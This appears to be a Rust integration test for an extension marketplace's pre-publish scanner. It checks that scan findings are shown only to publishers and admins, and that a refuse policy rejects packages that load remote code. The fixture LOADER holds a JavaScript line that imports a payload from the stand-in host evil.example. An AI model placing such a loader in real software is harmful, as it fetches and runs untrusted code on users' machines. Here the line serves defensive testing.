//! The pre-publish scan through the API: what it finds is in the publish
//! answer and shown to the publisher's members and admins only; with
//! `scan_policy = refuse`, a package that loads code from the network is
//! refused and nothing is stored.

use serde_json::Value;
use sora_common::auth::Role;

use crate::helpers::*;

const LOADER: &[u8] =
    b"export async function load() { return import('https://evil.example/payload.js'); }";

#[tokio::test]
async fn findings_are_in_the_answer_and_shown_to_the_publisher_and_admins_only() {
    let app = spawn_app().await;
    let alice = app.tokens.token_for("alice", Role::Editor);
    let clean = publish_as(&app, &alice, foxe(&manifest("acme", "plot", "1.0.0"))).await;
    assert_eq!(clean.status(), 201);
    let clean: Value = clean.json().await.unwrap();
    assert_eq!(clean["scan"], serde_json::json!([]));

    let package = foxe_with(
        &manifest("acme", "plot", "1.1.0"),
        &[("dist/loader.js", LOADER)],
    );
    let published = publish_as(&app, &alice, package).await;
    assert_eq!(published.status(), 201, "the default policy warns");
    let published: Value = published.json().await.unwrap();
    assert_eq!(published["scan"][0]["rule"], "remote-import");
    assert_eq!(published["scan"][0]["severity"], "high");
    assert_eq!(published["scan"][0]["file"], "dist/loader.js");

    let path = "/api/extensions/acme.plot/versions/1.1.0/scan";
    let mine: Value = app.get_as(path, &alice).await.json().await.unwrap();
    assert_eq!(mine["findings"], published["scan"]);
    let admin: Value = app
        .get_as(path, &app.tokens.token(Role::Admin))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(admin["findings"], published["scan"]);
    let stranger = app.tokens.token_for("mallory", Role::Editor);
    assert_problem(app.get_as(path, &stranger).await, 404).await;
    assert_problem(app.get(path).await, 401).await;
    assert_problem(
        app.get_as("/api/extensions/acme.plot/versions/9.9.9/scan", &alice)
            .await,
        404,
    )
    .await;
}

#[tokio::test]
async fn the_refuse_policy_refuses_code_from_the_network_and_stores_nothing() {
    let app = spawn_app_with(|s| {
        s.service.marketplace.scan_policy = file_server::config::ScanPolicy::Refuse;
    })
    .await;
    let alice = app.tokens.token_for("alice", Role::Editor);
    let package = foxe_with(
        &manifest("acme", "plot", "1.0.0"),
        &[("dist/loader.js", LOADER)],
    );
    let problem = assert_problem(publish_as(&app, &alice, package).await, 422).await;
    assert_eq!(problem["errors"][0]["field"], "dist/loader.js:1");
    assert!(
        problem["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("remote-import"),
        "{problem}"
    );
    assert_problem(app.get("/api/extensions/acme.plot").await, 404).await;
    // Dynamic code alone is a warning: published.
    let codegen = foxe_with(
        &manifest("acme", "proto", "1.0.0"),
        &[("dist/codegen.js", b"var f = new Function('a', 'return a');")],
    );
    let published = publish_as(&app, &alice, codegen).await;
    assert_eq!(published.status(), 201);
    let published: Value = published.json().await.unwrap();
    assert_eq!(published["scan"][0]["severity"], "warning");
}
